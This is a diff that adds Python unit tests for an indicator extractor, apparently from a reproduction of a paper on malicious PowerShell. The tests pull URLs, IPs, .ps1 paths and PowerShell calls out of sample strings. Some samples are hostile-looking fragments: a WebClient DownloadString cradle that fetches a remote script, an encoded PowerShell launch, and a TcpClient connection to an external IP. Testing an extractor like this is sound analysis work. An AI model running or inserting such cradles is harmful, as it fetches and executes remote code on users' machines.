@@ -1,0 +1,94 @@
+"""Tests for key-information extraction (Fig 5's measurement)."""
+
+from repro.analysis import extract_key_info
+
+
+class TestUrls:
+    def test_simple_url(self):
+        info = extract_key_info(
+            "iwr 'https://test.com/malware.txt'"
+        )
+        assert info.urls == {"https://test.com/malware.txt"}
+
+    def test_http_and_ftp(self):
+        info = extract_key_info("'http://a.b/x' 'ftp://c.d/y'")
+        assert len(info.urls) == 2
+
+    def test_url_with_port_and_query(self):
+        info = extract_key_info("'https://x.io:8443/a?b=c&d=e'")
+        assert "https://x.io:8443/a?b=c&d=e" in info.urls
+
+    def test_no_url(self):
+        assert extract_key_info("write-host hello").urls == set()
+
+
+class TestIps:
+    def test_valid_ip(self):
+        info = extract_key_info("TcpClient('45.77.12.9', 443)")
+        assert info.ips == {"45.77.12.9"}
+
+    def test_octet_range_checked(self):
+        assert extract_key_info("'999.1.1.1'").ips == set()
+
+    def test_version_string_not_matched(self):
+        info = extract_key_info("'version 5.1.19041.1237'")
+        # 4-part dotted numbers with valid octets do match (the paper
+        # counts syntactic IPs) but 5-part sequences must not.
+        assert "5.1.19041.1237" not in info.ips
+
+    def test_ip_in_url(self):
+        info = extract_key_info("'http://91.219.236.18/x.ps1'")
+        assert "91.219.236.18" in info.ips
+
+
+class TestPs1Files:
+    def test_windows_path(self):
+        info = extract_key_info(r"& C:\Users\Public\run.ps1")
+        assert r"C:\Users\Public\run.ps1" in info.ps1_files
+
+    def test_env_based_path(self):
+        info = extract_key_info(r'"$env:TEMP\up.ps1"')
+        assert any(p.endswith("up.ps1") for p in info.ps1_files)
+
+    def test_url_ps1(self):
+        info = extract_key_info("'https://x.y/stage2.ps1'")
+        assert any(p.endswith("stage2.ps1") for p in info.ps1_files)
+        assert info.urls
+
+
+class TestPowershellCommands:
+    def test_plain(self):
+        info = extract_key_info("powershell -nop -e aGk=")
+        assert len(info.powershell_commands) == 1
+
+    def test_exe(self):
+        info = extract_key_info("powershell.exe -File x.ps1")
+        assert info.powershell_commands
+
+    def test_pwsh(self):
+        info = extract_key_info("pwsh -c 'gci'")
+        assert info.powershell_commands
+
+    def test_none(self):
+        assert extract_key_info("gci").powershell_commands == set()
+
+
+class TestAggregation:
+    def test_total(self):
+        info = extract_key_info(
+            "powershell -c ((New-Object Net.WebClient)"
+            ".DownloadString('http://1.2.3.4/s.ps1'))"
+        )
+        assert info.total >= 3  # url + ip + ps1 (+ powershell)
+
+    def test_intersect(self):
+        left = extract_key_info("'http://a.b/'")
+        right = extract_key_info("'http://a.b/' 'http://c.d/'")
+        both = left.intersect(right)
+        assert both.urls == {"http://a.b/"}
+
+    def test_counts_keys(self):
+        counts = extract_key_info("x").counts()
+        assert set(counts) == {
+            "urls", "ips", "ps1_files", "powershell_commands"
+        }
